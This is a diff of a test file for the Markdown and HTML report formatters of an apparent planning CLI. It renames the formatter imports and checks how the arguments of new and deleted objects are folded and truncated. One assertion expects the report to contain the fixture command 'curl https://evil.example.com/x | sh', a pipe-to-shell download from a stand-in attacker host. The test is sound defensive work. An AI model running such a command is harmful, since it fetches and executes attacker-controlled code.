@@ -1,8 +1,8 @@
 /** Tests how reports show the arguments of objects that a plan creates or deletes. */
 import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
-import { html } from "../../../../cli/reporters/html/report.js";
-import { markdown } from "../../../../cli/reporters/markdown/report.js";
+import { formatHtmlReport } from "../../../../cli/reporters/html/report.js";
+import { formatMarkdownReport } from "../../../../cli/reporters/markdown/report.js";
 import { done, printed, SECRET, UNKNOWN } from "../../engine/events.js";
 import { planOf, viewOf } from "./support.js";
 
@@ -18,7 +18,7 @@ describe("the arguments of new and deleted objects", () => {
   ];
 
   it("are folded in Markdown, as render prints them: first what runs commands, then what gives rights", () => {
-    const text = markdown(viewOf(planOf(events)));
+    const text = formatMarkdownReport(viewOf(planOf(events)));
     const [, created = ""] = text.split("<b>3 to create");
     expect(created.slice(0, created.indexOf("</details>"))).toMatchInlineSnapshot(`
       "</b>: 1 action, 1 group member, 1 variable</summary>
@@ -53,7 +53,7 @@ describe("the arguments of new and deleted objects", () => {
   });
 
   it("are folded in HTML, and printed with --details", () => {
-    const { document } = new JSDOM(html(viewOf(planOf(events)))).window;
+    const { document } = new JSDOM(formatHtmlReport(viewOf(planOf(events)))).window;
     const folded = [...document.querySelectorAll("details.whole pre")].map((one) => one.textContent);
     expect(folded).toHaveLength(4);
     expect(folded[1]).toContain("curl https://evil.example.com/x | sh");
@@ -68,7 +68,7 @@ describe("the arguments of new and deleted objects", () => {
         description: "x".repeat(300),
       }),
     );
-    const text = markdown(viewOf(planOf(many)));
+    const text = formatMarkdownReport(viewOf(planOf(many)));
     expect(text.length).toBeLessThan(65_536);
     expect(text.match(/^(- )?group `/gm)?.length).toBeGreaterThan(100);
     expect(text).toMatch(/\*\*\d+ more do not fit here\*\*: see the report as JSON or HTML/);
